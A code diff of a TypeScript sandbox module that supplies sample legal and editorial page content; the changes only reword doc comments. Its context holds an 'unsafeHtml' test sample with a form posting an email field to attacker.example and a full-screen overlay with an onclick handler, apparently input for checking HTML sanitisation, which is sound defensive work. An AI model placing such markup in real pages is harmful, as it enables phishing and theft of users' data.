@@ -10,7 +10,7 @@ const countryTexts: Record<string, TranslatedText> = { terms: termsTexts, privac
 
 const editorialTexts: Record<string, TranslatedText> = { imprint: imprintTexts, invitations: invitationTexts }
 
-/** Ids of editorial pages with a description, for the start page. */
+/** Sample ids of contentPage, each with a description for the sandbox's start page. */
 export const contentSamples: Record<string, string> = {
   terms: "Terms and Conditions",
   "terms-at": "Terms and Conditions for Austria",
@@ -34,7 +34,7 @@ const unsafeHtml = `<p>This sentence stays.</p>
 <form action="https://attacker.example/"><input name="email"><button>Send</button></form>
 <p style="position: fixed; inset: 0" onclick="document.title = 'unsafe'">This one too.</p>`
 
-/** A text with every kind of paragraph, several printed pages long. */
+/** A text several printed pages long, with lists, tables, and headings out of order. */
 function longHtml(language: Language): string {
   const sections = [termsTexts, privacyTexts, imprintTexts, invitationTexts].flatMap(
     (texts) => texts[language].sections,
@@ -52,7 +52,7 @@ function html({ intro, sections }: ContentText): string {
   return `<p>${intro}</p>${parts.join("")}`
 }
 
-/** The texts for an id, with the country that the id names. */
+/** The texts for an id, and the country that the id names: an ISO code in upper case, or empty. */
 function find(id: string): { texts: TranslatedText; country: string } | null {
   const [kind = "", iso] = id.split("-")
   const country = iso?.toUpperCase() ?? ""
